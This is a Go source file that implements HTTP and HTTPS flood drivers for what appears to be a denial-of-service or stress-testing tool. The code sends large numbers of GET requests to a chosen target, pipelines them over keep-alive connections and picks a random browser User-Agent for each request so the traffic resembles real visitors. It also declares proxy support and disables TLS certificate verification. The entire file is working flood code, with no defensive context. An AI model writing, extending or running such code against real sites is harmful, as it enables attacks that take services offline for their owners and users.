package driver

import (
	"bufio"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"math/rand"
	"net"
	"net/http"
	"net/url"
	"strings"
)

var defaultUserAgents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
}

// httpFlood sends pipelined-style HTTP/1.1 GET requests over one connection,
// rpc requests per connection, reading each response before the next send.
type httpFlood struct {
	useTLS bool

	host    string
	port    string
	path    string
	rpc     int
	request []byte // request template minus the User-Agent line
}

func httpFloodSpec() Spec {
	return Spec{
		Name:        "HTTP_FLOOD",
		Protocol:    "http",
		Description: "High volume HTTP GET request load",
		Params: []ParamSpec{
			{Name: "rpc", Type: ParamInt, Description: "Requests per connection", Min: 1, Max: 100, Default: 1},
		},
		ProxyCapa: true,
		New:       func() Driver { return &httpFlood{} },
	}
}

func httpsFloodSpec() Spec {
	return Spec{
		Name:        "HTTPS_FLOOD",
		Protocol:    "http",
		Description: "High volume HTTPS GET request load over TLS",
		Params: []ParamSpec{
			{Name: "rpc", Type: ParamInt, Description: "Requests per connection", Min: 1, Max: 100, Default: 1},
		},
		ProxyCapa: true,
		New:       func() Driver { return &httpFlood{useTLS: true} },
	}
}

func (d *httpFlood) Prepare(target string, params map[string]interface{}) error {
	scheme := "http"
	if d.useTLS {
		scheme = "https"
	}
	if !strings.Contains(target, "://") {
		target = scheme + "://" + target
	}

	u, err := url.Parse(target)
	if err != nil {
		return fmt.Errorf("parse target: %w", err)
	}
	if u.Hostname() == "" {
		return fmt.Errorf("target %q has no host", target)
	}

	d.host = u.Hostname()
	d.port = u.Port()
	if d.port == "" {
		if d.useTLS {
			d.port = "443"
		} else {
			d.port = "80"
		}
	}
	d.path = u.RequestURI()
	if d.path == "" {
		d.path = "/"
	}
	d.rpc = IntParam(params, "rpc", 1)

	var b strings.Builder
	fmt.Fprintf(&b, "GET %s HTTP/1.1\r\n", d.path)
	fmt.Fprintf(&b, "Host: %s\r\n", u.Host)
	b.WriteString("Accept: */*\r\n")
	b.WriteString("Connection: keep-alive\r\n")
	d.request = []byte(b.String())

	return nil
}

func (d *httpFlood) Dial(ctx context.Context, dial DialFunc) (net.Conn, error) {
	conn, err := dial(ctx, "tcp", net.JoinHostPort(d.host, d.port))
	if err != nil {
		return nil, err
	}

	if d.useTLS {
		tlsConn := tls.Client(conn, &tls.Config{
			ServerName:         d.host,
			InsecureSkipVerify: true,
		})
		if err := tlsConn.HandshakeContext(ctx); err != nil {
			conn.Close()
			return nil, fmt.Errorf("tls handshake: %w", err)
		}
		return tlsConn, nil
	}

	return conn, nil
}

func (d *httpFlood) ExecuteOnce(ctx context.Context, conn net.Conn) Attempt {
	if deadline, ok := ctx.Deadline(); ok {
		conn.SetDeadline(deadline)
	}

	reader := bufio.NewReader(conn)
	var sent int64

	for i := 0; i < d.rpc; i++ {
		if ctx.Err() != nil {
			break
		}

		req := d.buildRequest()
		n, err := conn.Write(req)
		sent += int64(n)
		if err != nil {
			return Attempt{Bytes: sent, Err: fmt.Errorf("write request: %w", err)}
		}

		resp, err := http.ReadResponse(reader, nil)
		if err != nil {
			return Attempt{Bytes: sent, Err: fmt.Errorf("read response: %w", err)}
		}
		// Drain so the next response starts at a message boundary.
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()

		// 5xx counts against the target, not the attempt
		if resp.StatusCode >= 500 {
			return Attempt{Bytes: sent, Err: fmt.Errorf("HTTP %d", resp.StatusCode)}
		}
	}

	return Attempt{OK: true, Bytes: sent}
}

func (d *httpFlood) buildRequest() []byte {
	ua := defaultUserAgents[rand.Intn(len(defaultUserAgents))]
	req := make([]byte, 0, len(d.request)+len(ua)+32)
	req = append(req, d.request...)
	req = append(req, "User-Agent: "...)
	req = append(req, ua...)
	req = append(req, "\r\n\r\n"...)
	return req
}

func (d *httpFlood) Release() {}
